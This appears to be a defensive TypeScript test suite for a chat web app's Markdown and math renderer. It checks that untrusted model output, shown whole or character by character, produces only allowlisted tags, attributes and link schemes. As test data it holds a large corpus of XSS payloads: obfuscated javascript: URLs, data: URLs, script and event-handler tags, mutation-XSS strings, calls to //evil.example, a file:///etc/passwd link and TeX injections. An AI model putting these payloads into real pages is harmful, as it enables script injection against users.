// Model output is untrusted: whatever it says, shown whole or sign by sign, nothing in the page
// may run, load, submit, or lead to a script.
import { resetDom } from "../dom.ts";
import assert from "node:assert/strict";
import { beforeEach, test } from "node:test";
import fc from "fast-check";
import { math } from "../../../webapp/src/markdown/decorate.ts";
import { MarkdownView } from "../../../webapp/src/markdown/index.ts";
import { typeset } from "../../../webapp/src/workers/math.ts";
import { PIECES } from "./documents.ts";
import { signs } from "./helpers.ts";

beforeEach(resetDom);

const SCRIPT = "alert(1)";

const HOSTILE_URLS = [
  `javascript:${SCRIPT}`, `JaVaScRiPt:${SCRIPT}`, ` javascript:${SCRIPT}`, `java\tscript:${SCRIPT}`,
  `java\nscript:${SCRIPT}`, `\u0001javascript:${SCRIPT}`, `javascript&#58;${SCRIPT}`,
  `javascript&colon;${SCRIPT}`, `&#106;avascript:${SCRIPT}`, `&#x6A;avascript:${SCRIPT}`,
  `javascript&#x3A;${SCRIPT}`, `java%0ascript:${SCRIPT}`, `javascript%3A${SCRIPT}`,
  `vbscript:${SCRIPT}`, `data:text/html,<script>${SCRIPT}</script>`,
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
  "file:///etc/passwd", "blob:https://x/1", "about:blank", "//evil.example/x", "/api/session", "#x",
  "\\javascript:alert(1)", "javascript:/*--></title></style></script>*/alert(1)", "feed:javascript:alert(1)",
  "view-source:javascript:alert(1)", "jar:javascript:alert(1)", "filesystem:x", "ws://evil.example",
  "intent://x#Intent;scheme=javascript;end", "content://x", "mhtml:x", "x-javascript:alert(1)",
];

const LINK_FORMS: ((url: string) => string)[] = [
  (url) => `[x](${url})`,
  (url) => `[x](<${url}>)`,
  (url) => `![x](${url})`,
  (url) => `[![x](${url})](${url})`,
  (url) => `<${url}>`,
  (url) => `[x][r]\n\n[r]: ${url}`,
  (url) => `[x](${url} "onclick=${SCRIPT}")`,
  (url) => `| [x](${url}) |\n|---|\n| ![x](${url}) |`,
];

const TAGS = [
  `<script>${SCRIPT}</script>`, `<SCRIPT SRC=//evil.example></SCRIPT>`, `<img src=x onerror=${SCRIPT}>`,
  `<svg onload=${SCRIPT}>`, `<svg><script>${SCRIPT}</script></svg>`, `<iframe src="javascript:${SCRIPT}">`,
  `<iframe srcdoc="<script>${SCRIPT}</script>">`, `<object data="javascript:${SCRIPT}">`,
  `<embed src="javascript:${SCRIPT}">`, `<a href="javascript:${SCRIPT}">x</a>`, `<style>@import '//evil'</style>`,
  `<link rel=stylesheet href=//evil>`, `<base href=//evil>`, `<meta http-equiv=refresh content="0;url=//evil">`,
  `<form action=//evil><input name=x></form>`, `<button formaction="javascript:${SCRIPT}">x</button>`,
  `<details open ontoggle=${SCRIPT}>`, `<video><source onerror=${SCRIPT}></video>`, `<body onload=${SCRIPT}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${SCRIPT}>`, `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<template><script>${SCRIPT}</script></template>`, `<marquee onstart=${SCRIPT}>`, `<x onclick=${SCRIPT}>x</x>`,
  `"><img src=x onerror=${SCRIPT}>`, `'-${SCRIPT}-'`, `</code></pre><script>${SCRIPT}</script>`, `<!--><script>${SCRIPT}</script>-->`,
  `<a/href="jav&#x09;ascript:${SCRIPT}">x`, `<img/src/onerror=${SCRIPT}>`, `<isindex action=javascript:${SCRIPT} type=image>`,
];

const PLACES: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `text ${payload} text`,
  (payload) => `- ${payload}\n- b`,
  (payload) => `> ${payload}`,
  (payload) => `# ${payload}`,
  (payload) => `| ${payload} |\n|---|\n| ${payload} |`,
  (payload) => `\`\`\`${payload}\n${payload}\n\`\`\``,
  (payload) => `**${payload}** \`${payload}\` ~~${payload}~~`,
  (payload) => `[${payload}](https://example.org "${payload}")`,
  (payload) => `![${payload}](https://example.org/${payload})`,
  (payload) => `$${payload}$ and $$${payload}$$`,
  (payload) => `[^${payload}]\n\n[^${payload}]: ${payload}`,
];

const CORPUS = [
  ...HOSTILE_URLS.flatMap((url) => LINK_FORMS.map((form) => form(url))),
  ...TAGS.flatMap((tag) => PLACES.map((place) => place(tag))),
];

const SAFE_TAGS = /^(p|h3|ul|ol|li|blockquote|hr|pre|code|table|thead|tbody|tr|th|td|div|span|figure|figcaption|button|strong|em|del|a|br|sup)$/;
const SAFE_ATTRIBUTES = /^(class|dir|href|target|rel|title|start|role|tabindex|type|aria-label|data-footnote|data-align)$/;

function assertHarmless(container: HTMLElement, payload: string): void {
  for (const element of container.querySelectorAll("*")) {
    assert.match(element.localName, SAFE_TAGS, `${element.localName} from ${payload}`);
    for (const { name, value } of element.attributes) {
      assert.match(name, SAFE_ATTRIBUTES, `${name} from ${payload}`);
      if (name === "href") assert.match(value, /^(https?|mailto|tel|tg):/, payload);
      if (name === "type") assert.equal(value, "button", payload);
    }
  }
}

test(`none of ${CORPUS.length} attacks does anything when shown whole`, () => {
  assert.ok(CORPUS.length >= 200);
  for (const payload of CORPUS) {
    const container = document.createElement("div");
    const view = new MarkdownView(container);
    view.update(payload);
    assertHarmless(container, payload);
    view.finish();
    assertHarmless(container, payload);
  }
});

test("none of them does anything at any moment when it arrives sign by sign", () => {
  for (const payload of CORPUS) {
    const container = document.createElement("div");
    const view = new MarkdownView(container);
    for (const sign of signs(payload)) {
      view.append(sign);
      assertHarmless(container, payload);
    }
    view.finish();
    assertHarmless(container, payload);
  }
});

test("nor in any company", () => {
  const parts = fc.array(fc.constantFrom(...CORPUS, ...PIECES), { minLength: 1, maxLength: 5 });
  fc.assert(
    fc.property(parts, (chosen) => {
      const container = document.createElement("div");
      const view = new MarkdownView(container);
      for (const part of chosen) view.append(part);
      assertHarmless(container, chosen.join(""));
      view.finish();
      assertHarmless(container, chosen.join(""));
    }),
    { numRuns: 500 },
  );
});

const FORMULAS = [
  `\\href{javascript:${SCRIPT}}{x}`, `\\url{javascript:${SCRIPT}}`, "\\includegraphics{https://evil.example/x.png}",
  "\\htmlClass{evil}{x}", "\\htmlId{boot}{x}", "\\htmlStyle{position:fixed;inset:0}{x}", "\\htmlData{a=b}{x}",
  "\\class{x}{y}", "\\style{background:url(https://evil.example)}{x}", "\\color{red;position:fixed}{x}",
  "\\textcolor{url(//evil)}{x}", "\\unicode{x3C}script", "\\text{<script>alert(1)</script>}", "\\def\\x{\\x\\x}\\x",
  "\\rule{9999em}{9999em}", "\\kern{9999em}", "\\frac{a}{b}", "\\begin{pmatrix}a&b\\\\c&d\\end{pmatrix}",
  "\\cancel{x}", "\\boxed{x}", "\\sqrt[3]{x}", "\\overbrace{a}^{b}", "\\vec{v}\\prime", "\\tag{1} x",
];

test("a formula becomes MathML and nothing else", () => {
  let drawn = 0;
  for (const tex of FORMULAS) {
    for (const display of [true, false]) {
      let node: Node;
      try {
        node = math(typeset(tex, display));
      } catch {
        continue; // Refused by the TeX parser: the source stays on screen.
      }
      drawn++;
      const holder = document.createElement("div");
      holder.append(node);
      for (const element of holder.querySelectorAll("*")) {
        assert.match(element.localName, /^(math|m[a-z]+|none)$/, tex);
        for (const { name, value } of element.attributes) {
          assert.doesNotMatch(name, /^(on|href|src|xlink|id$|data)/i, tex);
          assert.doesNotMatch(value, /url\(|javascript|position/i, tex);
        }
      }
    }
  }
  assert.ok(drawn > 10, `only ${drawn} were drawn`);
});
